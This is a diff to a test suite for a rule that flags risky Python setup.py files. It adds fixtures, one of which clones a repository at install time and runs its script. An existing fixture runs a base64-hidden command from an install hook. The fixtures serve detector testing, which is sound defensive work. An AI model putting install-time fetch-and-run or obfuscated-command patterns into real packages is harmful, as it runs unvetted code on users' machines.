@@ -20,6 +20,11 @@ ruleTest(rule, {
       file: 'setup.py',
       code: `import subprocess\nfrom setuptools import setup\nCMD = "git " + "describe --tags"\nsubprocess.check_output(CMD, shell=True)\nsetup(name="p")\n`,
     },
+    {
+      name: 'module that clones a repository only when a function is called',
+      file: 'pkg/__init__.py',
+      code: `import git\ndef mirror(url, path):\n    return git.Repo.clone_from(url, path)\n`,
+    },
   ],
   flagged: [
     {
@@ -78,6 +83,14 @@ ruleTest(rule, {
       file: 'setup.py',
       code: `import base64, os\nfrom setuptools import setup\nfrom setuptools.command.install import install\ndef b64d(s):\n    return base64.b64decode(s.encode('ascii')).decode('ascii')\ndef go():\n    os.system(b64d("dHlwZSBudWwgPiBwcnVlYmEzMy50eHQ="))\nclass I(install):\n    def run(self):\n        install.run(self)\n        go()\nsetup(name="p", cmdclass={"install": I})\n`,
       findings: [{ line: 7, message: /Runs a command hidden by base64 at install time/, severity: 'critical', confidence: 'high' }],
+    },
+    {
+      name: 'setup.py cloning a repository with GitPython and running it',
+      file: 'setup.py',
+      code: `import os, subprocess\nimport git\ndef fetch(url, path):\n    git.Repo.clone_from(url, path)\n    subprocess.run(['python', os.path.join(path, 'run.py')])\nfetch("https://github.com/someone/tool.git", os.path.expanduser("~/tool"))\nfrom setuptools import setup\nsetup(name="p")\n`,
+      findings: [
+        { line: 4, message: /Network request at install time/, severity: 'critical', confidence: 'high' },
+      ],
     },
   ],
 });
